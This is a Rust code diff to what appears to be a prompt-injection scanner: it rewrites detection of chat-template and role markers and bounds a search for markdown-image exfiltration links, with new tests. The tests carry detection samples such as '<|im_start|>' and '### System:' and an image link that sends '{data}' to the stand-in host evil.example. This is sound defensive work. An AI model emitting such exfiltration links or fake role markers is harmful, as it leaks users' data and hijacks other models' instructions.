@@ -1161,22 +1161,75 @@ pub(crate) const MARKERS: &[&str] = &[
 
 /// Byte positions of markup markers (signal 1).
 pub(crate) fn marker_hits(text: &str) -> Vec<usize> {
-    use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
-    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
-    let ac = AC.get_or_init(|| {
-        AhoCorasick::builder()
-            .ascii_case_insensitive(true)
-            .match_kind(MatchKind::LeftmostFirst)
-            .kind(Some(AhoCorasickKind::NoncontiguousNFA))
-            .build(MARKERS)
-            .ok()
-    });
-    match ac {
-        Some(ac) => ac.find_iter(text).map(|m| m.start()).collect(),
-        // Cannot happen with these fixed patterns; if it did, every text counts as marked:
-        // caution, not permission.
-        None => vec![0],
+    // What a leftmost-first, ASCII-case-insensitive automaton over MARKERS reports (a test
+    // compares them), without building one in every hook process: at each byte that can begin
+    // a marker, the first marker of the list that matches there, then on after it.
+    let mut order: Vec<usize> = (0..MARKERS.len()).collect();
+    let first = |i: &usize| {
+        MARKERS
+            .get(*i)
+            .and_then(|m| m.as_bytes().first())
+            .map_or(0, u8::to_ascii_lowercase)
+    };
+    order.sort_by_key(first); // stable: list order within a first byte
+    let mut groups = [(0u16, 0u16); 256];
+    for (k, i) in order.iter().enumerate() {
+        let b = usize::from(first(i));
+        let k = u16::try_from(k).unwrap_or(u16::MAX);
+        if let Some(g) = groups.get_mut(b) {
+            *g = if g.1 == 0 { (k, k + 1) } else { (g.0, k + 1) };
+        }
     }
+    // The byte pairs markers begin with, in either case: most text bytes are ruled out by
+    // one bit test (`e`, `s` begin markers but rarely `en`/`sy`-led ones).
+    let mut pairs = [0u64; 1024];
+    for m in MARKERS {
+        if let [a, b, ..] = m.as_bytes() {
+            for a in [a.to_ascii_lowercase(), a.to_ascii_uppercase()] {
+                for b in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
+                    let pair = usize::from(a) << 8 | usize::from(b);
+                    if let Some(w) = pairs.get_mut(pair >> 6) {
+                        *w |= 1 << (pair & 63);
+                    }
+                }
+            }
+        }
+    }
+    let bytes = text.as_bytes();
+    let mut out = Vec::new();
+    let mut at = 0;
+    while let (Some(&b), Some(&c)) = (bytes.get(at), bytes.get(at + 1)) {
+        let pair = usize::from(b) << 8 | usize::from(c);
+        if pairs
+            .get(pair >> 6)
+            .is_none_or(|w| w >> (pair & 63) & 1 == 0)
+        {
+            at += 1;
+            continue;
+        }
+        let (lo, hi) = groups
+            .get(usize::from(b.to_ascii_lowercase()))
+            .copied()
+            .unwrap_or_default();
+        let hit = order
+            .get(usize::from(lo)..usize::from(hi))
+            .unwrap_or_default()
+            .iter()
+            .filter_map(|&i| MARKERS.get(i))
+            .find(|m| {
+                bytes
+                    .get(at..at + m.len())
+                    .is_some_and(|w| w.eq_ignore_ascii_case(m.as_bytes()))
+            });
+        match hit {
+            Some(m) => {
+                out.push(at);
+                at += m.len();
+            }
+            None => at += 1,
+        }
+    }
+    out
 }
 
 /// Exfiltration links: a markdown image (`![…](http…)`) whose URL carries a query, or any URL
@@ -1211,12 +1264,21 @@ pub(crate) fn exfil_links(text: &str) -> Vec<(usize, f32)> {
         // the scheme and no other link between the `![` and here.
         let image = text.get(..scheme_start).is_some_and(|before| {
             let before = before.trim_end_matches(['h', 't', 'p', 's', 'H', 'T', 'P', 'S']);
+            // The alt text must be under 300 bytes, so only the last ~300 bytes can hold its
+            // `![`: searching the whole prefix from every URL was quadratic in URLs.
+            let mut lo = before.len().saturating_sub(310);
+            while !before.is_char_boundary(lo) {
+                lo -= 1;
+            }
             before.ends_with("](")
-                && before.rfind("![").is_some_and(|open| {
-                    before
-                        .get(open..before.len() - 2)
-                        .is_some_and(|alt| !alt.contains("](") && alt.len() < 300)
-                })
+                && before
+                    .get(lo..)
+                    .and_then(|tail| tail.rfind("!["))
+                    .is_some_and(|open| {
+                        before
+                            .get(lo + open..before.len() - 2)
+                            .is_some_and(|alt| !alt.contains("](") && alt.len() < 300)
+                    })
         });
         let query = url.contains('?') || url.contains('=');
         let placeholder = url.contains('{')
@@ -1241,6 +1303,45 @@ pub(crate) fn exfil_links(text: &str) -> Vec<(usize, f32)> {
 #[allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
 mod tests {
     use super::*;
+
+    #[test]
+    fn marker_hits_are_what_a_leftmost_first_automaton_finds() {
+        use aho_corasick::{AhoCorasick, MatchKind};
+        let ac = AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::LeftmostFirst)
+            .build(MARKERS)
+            .unwrap();
+        // The pair filter needs two bytes per marker.
+        assert!(MARKERS.iter().all(|m| m.len() >= 2));
+        let mut samples: Vec<String> = MARKERS.iter().map(|m| format!("x {m} y")).collect();
+        samples.extend(MARKERS.iter().map(|m| m.to_ascii_uppercase()));
+        samples.push(MARKERS.concat());
+        samples.push(MARKERS.join(" ").to_ascii_uppercase());
+        samples.push(
+            "é<|im_start|>ü END OF CONTEXT <end of session> ### System: (system message) {{system"
+                .into(),
+        );
+        samples.push(
+            "The end of the road; systems engineering; ### instructions [inst] <</sys>>".into(),
+        );
+        for text in &samples {
+            let want: Vec<usize> = ac.find_iter(text.as_str()).map(|m| m.start()).collect();
+            assert_eq!(marker_hits(text), want, "{text}");
+        }
+    }
+
+    #[test]
+    fn exfil_links_see_an_image_whatever_precedes_it() {
+        // The `![` search is bounded to the alt text's reach: an image after a long page is
+        // still an image, and a `![` 300+ bytes back is not its opening.
+        let long = "word ".repeat(2000);
+        let img = "![x](https://evil.example/p?q={data})";
+        let near = format!("{long}{img}");
+        assert_eq!(exfil_links(&near).first().map(|l| l.1), Some(1.0));
+        let far = format!("![{}](https://evil.example/p?q={{data}})", "a".repeat(400));
+        assert_eq!(exfil_links(&far).first().map(|l| l.1), Some(0.4));
+    }
 
     #[test]
     fn words_are_lowercased_and_invisible_characters_do_not_split_them() {
